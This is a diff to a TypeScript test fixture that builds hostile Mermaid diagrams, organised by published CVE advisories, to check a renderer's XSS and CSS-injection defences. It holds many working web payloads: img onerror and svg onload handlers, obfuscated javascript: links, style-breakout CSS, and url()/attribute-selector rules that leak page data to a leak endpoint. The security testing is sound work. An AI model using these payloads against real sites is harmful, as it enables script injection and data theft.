@@ -13,6 +13,8 @@ export interface HostileDiagram {
   source: string;
   /** Heavy inputs: must be answered (rendered or refused) within this many milliseconds. */
   budgetMs?: number;
+  /** Set on a payload that gets through today (a product bug): why. Only knownBugDiagrams returns these. */
+  todo?: string;
 }
 
 const PWN = 'window.__pwned=true';
@@ -104,5 +106,72 @@ export function hostileDiagrams(origin: string): HostileDiagram[] {
     { name: 'over 100,000 characters', source: `graph TD\nA["${'word '.repeat(20_100)}"] --> B`, budgetMs: 5_000 },
     { name: '5,000-edge graph', source: `graph TD\n${edges5000}`, budgetMs: 5_000 },
     { name: '5,000 edges on one line', source: `graph LR\n${Array.from({ length: 5001 }, (_, i) => `N${i}`).join(' --> ')}`, budgetMs: 5_000 },
+    ...advisoryDiagrams(leak).filter((diagram) => !diagram.todo),
+  ];
+}
+
+/**
+ * Payloads that get through today: each one a product bug, with `todo` saying what happens.
+ * hostile.test.ts runs hostileDiagrams(); run these as todo tests until the product is fixed.
+ */
+export function knownBugDiagrams(origin: string): HostileDiagram[] {
+  return advisoryDiagrams((name) => `${origin}/leak-${name}`).filter((diagram) => diagram.todo);
+}
+
+/**
+ * Payload shapes from Mermaid's published XSS and CSS-injection advisories, written from the
+ * advisories' descriptions (not copied exploit code), one or more per sink they name, plus the
+ * usual filter-evasion spellings of each.
+ */
+function advisoryDiagrams(leak: (name: string) => string): HostileDiagram[] {
+  const img = (tag: string) => `<img src=x onerror=${PWN} data-tag=${tag}>`;
+  return [
+    // CVE-2021-35513 (before 8.11.0): the "antiscript" filter removed <script> by pattern; nested,
+    // mixed-case and entity-spelled forms got through it.
+    { name: 'CVE-2021-35513: nested and mixed-case script tags', source: `graph TD\nA["<scr<script>ipt>${PWN}</scr</script>ipt>"] --> B["<ScRiPt>${PWN}</sCrIpT>"] --> C["<script\t>${PWN}</script >"]` },
+    { name: 'CVE-2021-35513: javascript: spelled with entities, tabs and case', source: `graph TD\nA --> B --> C --> D --> E\nclick A href "java&#115;cript:${PWN}"\nclick B href "java\tscript:${PWN}"\nclick C href "JaVaScRiPt:${PWN}"\nclick D href "  javascript:${PWN}"\nclick E href "javascript&colon;${PWN}"` },
+    { name: 'CVE-2021-35513: event handlers without quotes, with slashes and odd case', source: `graph TD\nA["<img/src=x/onerror=${PWN}>"] --> B["<svg/OnLoad=${PWN}>"] --> C["<img src=x oNeRrOr=${FETCH}>"] --> D["<body onpageshow=${PWN}>"]` },
+    // CVE-2021-43861 (before 8.13.8): class diagram generics (~T~ becomes <T>) turned into markup after sanitizing.
+    { name: 'CVE-2021-43861: class generics ~…~ becoming tags', source: `classDiagram\nclass Evil~img src=x onerror=${PWN}~\nclass Box~svg onload=${PWN}~ {\n  +List~img src=${leak('generic')} onerror=${FETCH}~ items\n  +get~script~() ~script~\n}\nEvil <|-- Box` },
+    { name: 'CVE-2021-43861: class member and annotation markup', source: `classDiagram\nclass Evil {\n  <<${img('annotation')}>>\n  +String ${img('member')}\n  +run(${img('param')}) ${img('return')}\n}\nclass Other\nEvil --> Other : ${img('relation')}\nnote for Evil "${img('note')}"` },
+    // CVE-2022-31108 (before 9.1.3): CSS injected through directives and classDef reached the page's styles.
+    { name: 'CVE-2022-31108: themeCSS breaking out of the diagram scope', source: `%%{init: {"themeCSS": "} body, html { background: url(${leak('themecss-body')}) } #x {"}}%%\ngraph TD\nA --> B` },
+    { name: 'CVE-2022-31108: fontFamily closing the style element', source: `%%{init: {"fontFamily": "x</style><img src=x onerror=${PWN}><style>", "themeVariables": {"fontFamily": "a;} * { background-image: url(${leak('font-var')}) } b{"}}}%%\ngraph TD\nA --> B` },
+    { name: 'CVE-2022-31108: attribute selectors and custom properties to exfiltrate page text', source: `%%{init: {"themeCSS": "input[value^=a] { background: url(${leak('exfil-a')}) } a[href^=http] { background: url(${leak('exfil-link')}) } :root { --x: url(${leak('root-var')}) }"}}%%\ngraph TD\nA --> B` },
+    { name: 'CVE-2022-31108: themeVariables carrying url() and rule breaks', source: `%%{init: {"themeVariables": {"lineColor": "red; background: url(${leak('line')})", "fontFamily": "x; background: url(${leak('tv-font')})", "primaryBorderColor": "url(${leak('border')})"}}}%%\ngraph TD\nA --> B` },
+    // CVE-2023-45809 and its kin: sequence diagram actors, aliases and actor menus.
+    { name: 'CVE-2023-45809: sequence actor and alias HTML', source: `sequenceDiagram\nparticipant A as ${img('alias')}\nactor B as <svg onload=${PWN}>\nA->>B: hi\nB-->>A: ${img('message')}` },
+    { name: 'CVE-2023-45809: sequence actor menus (links, properties, details)', source: `sequenceDiagram\nparticipant A\nparticipant B\nlinks A: {"Evil": "javascript:${PWN}", "Leak": "${leak('actor-menu')}"}\nproperties B: {"class": "x\" onmouseover=\"${PWN}", "icon": "${leak('actor-icon')}"}\ndetails B: {"x": "${img('details')}"}\nA->>B: hello` },
+    { name: 'sequence boxes, notes and rect colours', source: `sequenceDiagram\nbox rgb(0,0,0) ${img('box')}\nparticipant A\nend\nrect url(${leak('rect')})\nA->>A: self\nend\nNote right of A: ${img('note')}\ncritical ${img('critical')}\nA->>A: x\nend` },
+    // CVE-2025-54881 (10.9.0–11.9.0): sequence labels measured through innerHTML; KaTeX math in labels.
+    { name: 'CVE-2025-54881: sequence labels measured through innerHTML', source: `sequenceDiagram\nA->>B: ${img('measure')}<br/>${img('measure2')}\nautonumber\nloop ${img('loop')}\nA->>B: x\nend` },
+    { name: 'CVE-2025-54881: KaTeX math in sequence labels', source: `sequenceDiagram\nA->>B: $$\\text{<img src=x onerror=${FETCH}>}$$\nB->>A: $$\\href{javascript:${FETCH}}{click}$$` },
+    {
+      name: 'CVE-2025-54881: math plus an image in sequence labels (image fetched while Mermaid measures the label)',
+      source: `sequenceDiagram\nparticipant A as $$x$$ <img src=${leak('katex-alias')}>\nA->>B: $$x^2$$ <img src=${leak('katex-message')} onerror=${FETCH}>\nNote over A: $$y$$ <img src=${leak('katex-note')}>`,
+      todo: 'bug: a sequence label holding $$math$$ is measured by Mermaid in the live page (innerHTML), so an <img> in it is fetched (handlers are stripped; with the host CSP a remote host is blocked, the webview\'s own origin is not); hostile.test.ts sees a request per label',
+    },
+    { name: 'KaTeX \\htmlData, \\includegraphics and \\url', source: `graph TD\nA["$$\\htmlData{onerror=${PWN}}{x}$$"] --> B["$$\\includegraphics{${leak('katex-img')}}$$"] --> C["$$\\url{javascript:${PWN}}$$"]` },
+    // CVE-2025-54880 (11.x): architecture diagram icons and icon text passed to d3 .html().
+    { name: 'CVE-2025-54880: architecture group and service titles with markup', source: `architecture-beta\n    group api(cloud)[${img('group')}]\n    service web(server)[${img('service')}] in api\n    service db(database)["<svg onload=${PWN}>"] in api\n    web:R -- L:db` },
+    { name: 'CVE-2025-54880: architecture text icons and icon names with markup or URLs', source: `architecture-beta\n    service a("<img src=x onerror=${PWN}>")[A]\n    service b(${leak('arch-icon')})[B]\n    service c(logos:<svg onload=${PWN}>)[C]\n    a:R -- L:b` },
+    // Other diagram types with text sinks: gantt task names, journey, timeline, mindmap, C4, quadrant, xychart, requirement, ER, git.
+    { name: 'gantt task names, sections and link to javascript:', source: `gantt\ndateFormat YYYY-MM-DD\nsection ${img('section')}\n${img('task')} :t1, 2024-01-01, 3d\n<script>${PWN}</script> :t2, after t1, 2d\nclick t2 href "javascript:${PWN}"` },
+    { name: 'journey and timeline titles and sections', source: `journey\ntitle ${img('journey')}\nsection ${img('journey-section')}\n  ${img('journey-task')}: 5: ${img('actor')}` },
+    { name: 'timeline events', source: `timeline\ntitle ${img('timeline')}\nsection ${img('tl-section')}\n2024 : ${img('event')} : <svg onload=${PWN}>` },
+    { name: 'mindmap nodes, icons and classes', source: `mindmap\n  root((${img('root')}))\n    ::icon(fa ${img('icon')})\n    child["<iframe src='${leak('mindmap')}'></iframe>"]\n    :::evil} body{background:url(${leak('mindmap-class')})` },
+    { name: 'C4 elements with $link, sprites and styles', source: `C4Context\ntitle ${img('c4')}\nPerson(a, "${img('person')}", "desc", $link="javascript:${PWN}", $sprite="${leak('sprite')}")\nSystem(b, "B")\nRel(a, b, "${img('rel')}")\nUpdateElementStyle(a, $bgColor="red;background:url(${leak('c4-style')})")` },
+    { name: 'quadrant chart and xychart labels', source: `quadrantChart\ntitle "${img('quadrant')}"\nx-axis "${img('xaxis')}" --> High\ny-axis Low --> High\nquadrant-1 "${img('q1')}"\nPoint A: [0.3, 0.6]` },
+    { name: 'xychart titles and axis labels', source: `xychart-beta\ntitle "${img('xy')}"\nx-axis ["${img('xlabel')}", b]\ny-axis "<svg onload=${PWN}>" 0 --> 10\nbar [1, 2]` },
+    { name: 'ER diagram relationship labels and attribute comments', source: `erDiagram\n    CUSTOMER ||--o{ ORDER : "${img('er-rel')}"\n    CUSTOMER {\n        string name "${img('er-comment')}"\n    }` },
+    { name: 'git graph commit ids, tags and branch names', source: `gitGraph\n    commit id: "${img('commit')}" tag: "<svg onload=${PWN}>"\n    branch evil\n    checkout evil\n    commit id: "x" type: HIGHLIGHT` },
+    { name: 'flowchart edge labels and link styles', source: `graph TD\nA -- "${img('edge')}" --> B\nB -->|<iframe src=${leak('edge-iframe')}>| C\nlinkStyle 0,1 stroke:red;background-image:url(${leak('linkstyle')})` },
+    { name: 'flowchart node shapes with markup in every shape', source: `flowchart LR\nA(${img('round')}) --> B([${img('stadium')}]) --> C[[${img('subroutine')}]] --> D[(${img('db')})] --> E((${img('circle')})) --> F>${img('asym')}] --> G{${img('rhombus')}} --> H{{${img('hex')}}}` },
+    { name: 'subgraph titles, accTitle and accDescr', source: `graph TD\naccTitle: ${img('acctitle')}\naccDescr { <script>${PWN}</script> }\nsubgraph S1["${img('subgraph')}"]\nA --> B\nend\nsubgraph S2 [<svg onload=${PWN}>]\nC\nend` },
+    { name: 'directives: secure keys, maxTextSize, dompurifyConfig and wrapping', source: `%%{init: {"secure": [], "maxTextSize": 999999999, "dompurifyConfig": {"ALLOWED_URI_REGEXP": ".*", "ADD_URI_SAFE_ATTR": ["href"]}, "markdownAutoWrap": false}}%%\n%%{wrap}%%\ngraph TD\nA["<a href='javascript:${PWN}'>x</a>"] --> B\nclick B href "javascript:${PWN}"` },
+    { name: 'frontmatter config with displayMode, look and layout tricks', source: `---\nconfig:\n  look: handDrawn\n  layout: elk\n  securityLevel: sandbox\n  themeCSS: "svg { background: url(${leak('fm-svg-bg')}) }"\n  gantt:\n    displayMode: compact\n---\ngraph TD\nA["${img('fm')}"] --> B` },
+    { name: 'sankey node names and packet field labels', source: `sankey-beta\n"${img('sankey-a')}",B,10\nB,"<svg onload=${PWN}>",5` },
+    { name: 'block diagram labels and styles', source: `block-beta\ncolumns 2\na["${img('block')}"] b["<iframe src='${leak('block-iframe')}'></iframe>"]\nstyle a fill:url(${leak('block-style')})` },
+    { name: 'kanban columns, tasks and metadata', source: `kanban\n  todo[${img('kanban-col')}]\n    t1[${img('kanban-task')}]@{ ticket: "<svg onload=${PWN}>", assigned: "${img('assigned')}", priority: 'High' }` },
   ];
 }
